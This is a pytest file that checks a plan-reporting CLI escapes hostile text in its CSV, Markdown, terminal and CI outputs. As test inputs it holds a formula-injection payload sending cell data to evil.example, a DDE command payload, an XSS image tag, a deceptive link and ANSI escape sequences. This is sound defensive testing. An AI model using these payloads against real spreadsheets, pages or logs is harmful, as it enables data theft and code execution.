"""Issue 26, items 1 (CSV) and 9: plan text in outputs. A title starting with ``=`` in a
CSV, a legend word holding HTML or a link in the committee paper, a pipe shifting a
Markdown table's columns, an ESC sequence reaching a terminal or a CI log: each is
shown as written and never acted on."""

from __future__ import annotations

import csv
import io
import re

import pytest

from conftest import MINIMAL_PLAN
from gitkit import git, needs_git

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ESCAPE = "\x1b[2J\x1b[31mred"
IMG = "<img src=x onerror=alert(1)>"
LINK = "[Approved by CEO](https://evil.example)"


def plan_with(title: str = "Refresh the reference group", status: str = "on track") -> str:
    return MINIMAL_PLAN.replace("Refresh the reference group", title, 1).replace(
        "status: on track", f"status: {status}", 1
    )


def quoted(text: str) -> str:
    """``text`` as a YAML double-quoted scalar (ESC written as an escape)."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\x1b", "\\e") + '"'


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# --- CSV (item 1) -------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["list", "overdue"])
def test_a_csv_cell_starting_like_a_formula_gets_an_apostrophe(cli, write_plan, plans_dir, command):
    write_plan(plan_with(title=quoted(FORMULA)))
    result = cli(command, "--plans", plans_dir, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = {row["id"]: row for row in csv_rows(result.stdout)}
    assert rows["T1.1.a"]["title"] == "'" + FORMULA


def test_every_formula_start_is_neutralised_in_csv(cli, write_plan, plans_dir):
    text = MINIMAL_PLAN
    for old, new in (
        ("Refresh the reference group", "+1+1"),
        ("Venue agreed", "@SUM(A1)"),
        ("Invitations sent", "\t=1"),
        ("Head of Service", "-1+1"),
    ):
        text = text.replace(old, quoted(new), 1)
    write_plan(text)
    rows = csv_rows(cli("list", "--plans", plans_dir, "--format", "csv").stdout)
    # A leading tab is whitespace to a one-line cell: folded away, and what follows guarded.
    assert {row["id"]: row["title"] for row in rows} == {
        "T1.1.a": "'+1+1",
        "T1.1.b-1": "'@SUM(A1)",
        "T1.1.b-2": "'=1",
    }
    assert {row["lead"] for row in rows} == {"'-1+1"}


def test_numbers_stay_numbers_in_csv(cli, write_plan, plans_dir):
    write_plan(plan_with())
    rows = csv_rows(cli("overdue", "--plans", plans_dir, "--format", "csv").stdout)
    days = [row["days_overdue"] for row in rows]
    assert days and all(re.fullmatch(r"-?\d+", day) for day in days)
    assert not any(day.startswith("'") for day in days)


def test_an_escape_sequence_in_a_csv_is_shown_not_passed_through(cli, write_plan, plans_dir):
    write_plan(plan_with(title=quoted(ESCAPE)))
    out = cli("list", "--plans", plans_dir, "--format", "csv").stdout
    assert "\x1b" not in out
    assert {row["id"]: row for row in csv_rows(out)}["T1.1.a"]["title"] == r"\x1b[2J\x1b[31mred"


@needs_git
def test_chase_csv_neutralises_a_lead_named_like_a_formula(cli, plan_repo):
    plan = plan_repo / "plans" / "housing.yaml"
    text = plan.read_text()
    assert "Head of Finance" in text
    plan.write_text(text.replace("Head of Finance", "=cmd|' /C calc'!A0"))
    git(plan_repo, "commit", "-qam", "lead")
    assert cli("request", "--quarter", "Q3-26/27").exit_code == 0
    out = cli("chase", "-q", "Q3-26/27", "--format", "csv").stdout
    leads = [row["lead"] for row in csv_rows(out)]
    assert "'=cmd|' /C calc'!A0" in leads
    assert not any(lead.startswith("=") for lead in leads)


# --- Markdown (item 9) --------------------------------------------------------------------


def acted_on(text: str) -> list[str]:
    """Markup a renderer would act on: a tag or a link not escaped by a backslash."""
    return re.findall(r"(?<!\\)<img|(?<!\\)\]\(", text)


def columns_of(line: str) -> int:
    """Cells in a Markdown table row: pipes not escaped by a backslash, less one."""
    return len(re.findall(r"(?<!\\)\|", line)) - 1


def table_rows(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("|")]


@pytest.mark.parametrize("word", [IMG, LINK, "Red | Amber", "**Approved**"])
def test_report_markdown_escapes_legend_status_words(cli, write_plan, plans_dir, word):
    legend = f"statuses:\n  {quoted(word)}: off-track\n"
    text = plan_with(status=quoted(word)).replace("themes:\n", legend + "themes:\n", 1)
    write_plan(text)
    result = cli("report", "--plans", plans_dir, "--format", "markdown", "--quarter", "Q4-25/26")
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert word not in out  # never raw
    for table in re.split(r"\n\n", out):
        rows = table_rows(table)
        assert len({columns_of(row) for row in rows}) <= 1, table
    assert not acted_on(out)


@pytest.mark.parametrize("command", ["list", "overdue"])
@pytest.mark.parametrize("title", [IMG, LINK, "*bold* _em_ `code`", "a | b"])
def test_list_and_overdue_markdown_escape_html_links_and_emphasis(
    cli, write_plan, plans_dir, command, title
):
    write_plan(plan_with(title=quoted(title)))
    out = cli(command, "--plans", plans_dir, "--format", "markdown").stdout
    assert title not in out
    rows = table_rows(out)
    assert len({columns_of(row) for row in rows}) == 1
    assert not acted_on(out) and "*bold*" not in out


@needs_git
def test_diff_markdown_for_the_job_summary_is_escaped(cli, tmp_path, monkeypatch):
    (tmp_path / "plans").mkdir()
    plan = tmp_path / "plans" / "demo.yaml"
    plan.write_text(plan_with())
    git(tmp_path, "init", "-q", "-b", "main")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-q", "-m", "plan")
    plan.write_text(plan_with(title=quoted(IMG + " " + LINK + " | x " + ESCAPE)))
    monkeypatch.chdir(tmp_path)
    out = cli("diff", "--plans", "plans", "--format", "markdown").stdout
    assert not acted_on(out) and "\x1b" not in out
    assert r"\<img src=x onerror=alert(1)\>" in out
    assert len({columns_of(row) for row in table_rows(out)}) == 1


# --- control characters in every text format (item 9) ----------------------------------


def test_the_terminal_table_shows_escape_sequences(cli, write_plan, plans_dir):
    write_plan(plan_with(title=quoted(ESCAPE)))
    out = cli("list", "--plans", plans_dir).stdout
    assert "\x1b" not in out
    assert r"\x1b[2J\x1b[31mred" in out


def test_github_annotations_and_messages_show_escape_sequences(cli, write_plan, plans_dir):
    write_plan(plan_with(status=quoted("\x1b[32mall good\x1b[0m")))
    annotations = cli("validate", "--format", "github", plans_dir).stdout
    text = cli("validate", plans_dir).stdout
    for out in (annotations, text):
        assert "\x1b" not in out
        assert r"\x1b[32mall good\x1b[0m" in out
